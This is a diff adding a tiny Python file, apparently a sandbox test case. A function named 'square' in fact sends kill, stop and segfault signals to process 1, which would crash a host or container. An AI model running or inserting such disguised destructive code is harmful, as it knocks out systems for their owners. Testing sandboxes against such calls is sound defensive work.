@@ -1,0 +1,10 @@
+"""Kills process 1, which is itself or the keeper of all others."""
+# needs: full
+# %% square
+import os
+import signal
+
+def square(x):
+    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
+        os.kill(1, number)
+    return 0
